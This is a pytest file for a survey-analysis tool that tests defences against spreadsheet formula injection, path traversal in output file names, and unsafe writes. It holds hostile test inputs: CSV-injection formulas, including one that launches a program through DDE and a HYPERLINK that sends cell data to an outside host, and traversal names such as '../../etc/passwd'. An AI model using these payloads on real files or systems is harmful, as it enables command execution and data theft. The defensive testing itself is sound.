"""Outputs that are safe to open and safe to write.

* Spreadsheet cells: formula triggers are neutralised (OWASP CSV injection), in CSV and XLSX.
* Names from data or instruments never steer a write out of the output folder.
* Writes are atomic (temporary file in the same folder, then a rename) and never replace
  an input: neither the data file nor the instrument.
* Problems with the output location are one clear message (exit 2), not a traceback.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clirun import run_cli
from mcstats.errors import UsageError
from mcstats.instrument import load_instrument
from mcstats.pipeline import run_analysis
from mcstats.safety import (
    FORMULA_TRIGGERS,
    append_xlsx_row,
    check_not_inputs,
    neutralise_cell,
    output_path,
    safe_filename,
    write_atomic_bytes,
    write_atomic_text,
    write_csv,
)

CORPUS = Path(__file__).resolve().parents[1] / "corpus"
SURVEY = CORPUS / "support" / "survey_5pt.csv"
INSTRUMENT = CORPUS / "support" / "survey_5pt.yaml"

FORMULAS = [
    "=1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]

# --------------------------------------------------------------------------- cells


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Agree", "3", "Q1", "'quoted", "", "a=b", "x-1", "é=1"])
def test_plain_text_is_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3.25, True, None, float("nan")])
def test_numbers_stay_numbers(value: Any) -> None:
    got = neutralise_cell(value)
    assert got is value


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_no_neutralised_text_starts_a_formula(text: str) -> None:
    got = neutralise_cell(text)
    assert got == text or got == "'" + text
    assert got[:1] not in FORMULA_TRIGGERS
    assert got.lstrip(" ")[:1] not in FORMULA_TRIGGERS


def test_csv_export_neutralises_every_cell(tmp_path: Path) -> None:
    p = tmp_path / "export.csv"
    rows = [[text, -1.5, None, "ok"] for text in FORMULAS]
    write_csv(p, rows, header=["=label", "t", "p", "note"])
    data = p.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["'=label", "t", "p", "note"]
    for original, row in zip(FORMULAS, read[1:], strict=True):
        assert row == ["'" + original, "-1.5", "", "ok"]
    for row in read:
        for cell in row:
            assert cell[:1] not in FORMULA_TRIGGERS or cell == "-1.5"


def test_xlsx_export_has_no_formula_cells(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    append_xlsx_row(ws, ["label", "t"])
    for text in FORMULAS:
        append_xlsx_row(ws, [text, -2.5])
    p = tmp_path / "export.xlsx"
    wb.save(p)
    back = openpyxl.load_workbook(p, data_only=False).active
    cells = [c for row in back.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells if c.column == 1] == ["'" + t for t in FORMULAS]
    assert [c.value for c in cells if c.column == 2] == [-2.5] * len(FORMULAS)


# --------------------------------------------------------------------------- names and paths

EVIL_NAMES = [
    "../../etc/passwd",
    "..",
    ".",
    "",
    "/absolute/path",
    "C:\\Windows\\evil",
    "\\\\server\\share",
    "a/../../b",
    "name\x00.png",
    "CON",
    "aux.txt",
    "  spaces  ",
    ".hidden",
    "...",
    "x" * 500,
    "\u00e9t\u00e9/\u2215slash",
    "<script>",
    "~",
    "~root",
    "$HOME",
]


@pytest.mark.parametrize("name", EVIL_NAMES)
def test_names_from_data_stay_inside_the_output_folder(tmp_path: Path, name: str) -> None:
    out = tmp_path / "out"
    target = output_path(out, "charts", name, suffix=".png")
    assert target.parent == out / "charts"
    assert target.resolve().is_relative_to(out.resolve())
    leaf = safe_filename(name)
    assert "/" not in leaf and "\\" not in leaf and "\x00" not in leaf
    assert leaf not in ("", ".", "..") and not leaf.startswith(".")
    assert len(leaf.encode("utf-8")) <= 130
    assert leaf.split(".")[0].upper() not in ("CON", "AUX", "NUL", "PRN")
    write_atomic_text(target, "x")
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()) == [
        f"out/charts/{leaf}.png"
    ]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40), st.text(max_size=40))
def test_safe_filenames_are_stable_and_distinct(a: str, b: str) -> None:
    assert safe_filename(a) == safe_filename(a)
    if a != b:
        assert safe_filename(a) != safe_filename(b)
    assert "/" not in safe_filename(a) and "\\" not in safe_filename(a)


def test_a_link_inside_the_output_folder_cannot_lead_out(tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "charts").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(UsageError, match="outside the output folder"):
        output_path(out, "charts", "item")


def test_outputs_never_replace_an_input(tmp_path: Path) -> None:
    data = tmp_path / "results.json"
    data.write_text("Q1\n1\n")
    link = tmp_path / "link.json"
    link.symlink_to(data)
    hard = tmp_path / "hard.json"
    os.link(data, hard)
    for target in (data, link, hard):
        with pytest.raises(UsageError, match="refusing to overwrite the input file"):
            check_not_inputs([target], [data])
    check_not_inputs([tmp_path / "report.md"], [data, None])


def test_analysis_refuses_to_write_over_its_instrument(tmp_path: Path) -> None:
    """The instrument is an input too: an output of the same name in --out is refused."""
    inst_path = tmp_path / "report.md"
    inst_path.write_bytes(INSTRUMENT.read_bytes())
    before = inst_path.read_bytes()
    with pytest.raises(UsageError, match="refusing to overwrite the input file"):
        run_analysis(SURVEY, load_instrument(inst_path), out_dir=tmp_path)
    assert inst_path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.md"]


# --------------------------------------------------------------------------- atomic writes


def test_atomic_write_replaces_in_one_step(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "out" / "results.json"
    write_atomic_text(target, "old")
    seen: list[tuple[str, str, str]] = []
    real_replace = os.replace

    def watching_replace(src: Any, dst: Any) -> None:
        # At the moment of the rename the reader still sees the whole old file, and the
        # whole new file waits beside it in the same folder.
        seen.append((Path(dst).read_text(), Path(src).read_text(), str(Path(src).parent)))
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", watching_replace)
    write_atomic_text(target, "new")
    assert seen == [("old", "new", str(target.parent))]
    assert target.read_text() == "new"
    assert [p.name for p in target.parent.iterdir()] == ["results.json"]


def test_failed_write_keeps_the_old_file_and_leaves_no_temporary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "report.md"
    write_atomic_text(target, "old report")

    def failing_replace(src: Any, dst: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", failing_replace)
    with pytest.raises(UsageError, match=r"cannot write .*report\.md: No space left on device"):
        write_atomic_bytes(target, b"new report")
    assert target.read_text() == "old report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.md"]


def test_output_folder_that_is_a_file_is_a_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "out"
    blocker.write_text("I am a file")
    with pytest.raises(UsageError, match="cannot write"):
        write_atomic_text(blocker / "results.json", "{}")
    (tmp_path / "dir.json").mkdir()
    with pytest.raises(UsageError, match="cannot write"):
        write_atomic_text(tmp_path / "dir.json", "{}")
    proc = run_cli("analyze", str(SURVEY), "--instrument", str(INSTRUMENT), "--out", str(blocker))
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert proc.stderr.startswith("mcstats: usage error: cannot write")
    assert blocker.read_text() == "I am a file"
